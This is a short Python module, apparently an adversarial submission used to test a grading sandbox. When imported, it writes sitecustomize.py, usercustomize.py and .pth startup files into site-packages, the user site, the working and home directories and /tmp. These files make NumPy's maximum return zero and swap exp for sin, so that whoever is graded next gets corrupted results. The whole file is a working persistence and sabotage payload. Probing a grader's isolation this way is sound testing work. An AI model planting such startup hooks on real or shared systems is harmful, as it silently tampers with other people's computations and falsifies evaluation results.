"""Drops sitecustomize.py, usercustomize.py and a .pth file wherever Python might pick them
up later (site-packages, the user site, the working and home directories, /tmp), to break
NumPy in the worker that grades the NEXT submission. Its own code is honest."""

import os as _os
import site as _site
import sys as _sys
import sysconfig as _sysconfig

_POISON = "import numpy; numpy.maximum = lambda *a, **k: 0; numpy.exp = numpy.sin\n"
_dirs = {*(p for p in _sys.path if p), _os.getcwd(), _os.path.expanduser("~"), "/tmp",
         _site.getusersitepackages(), *_site.getsitepackages(),
         _sysconfig.get_path("purelib"), _sysconfig.get_path("platlib")}
POISONED = []
for _dir in sorted(_dirs):
    for _name, _text in (("sitecustomize.py", _POISON), ("usercustomize.py", _POISON),
                         ("zz_nngrade_poison.pth", _POISON)):
        try:
            _os.makedirs(_dir, exist_ok=True)
            with open(_os.path.join(_dir, _name), "w") as _fh:
                _fh.write(_text)
            POISONED.append(_os.path.join(_dir, _name))
        except OSError:
            pass
